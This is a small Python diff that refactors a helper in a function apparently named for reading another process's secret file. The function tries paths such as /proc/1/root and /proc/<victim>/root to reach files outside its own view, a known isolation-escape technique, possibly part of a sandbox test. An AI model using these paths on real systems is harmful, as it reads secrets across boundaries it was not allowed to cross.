@@ -65,11 +65,7 @@ def read_a_secret(facts: Facts) -> str | None:
         f"/proc/1/root{secret}",
     ]
     ways += [f"/proc/{facts['victim']}/root{secret}", f"/proc/{facts['victim']}/cwd/{secret}"]
-    return _first(_read, ways)
-
-
-def _read(path: str) -> str:
-    return Path(path).read_text()
+    return _first(lambda way: Path(way).read_text(), ways)
 
 
 def list_the_home(facts: Facts) -> str | None:
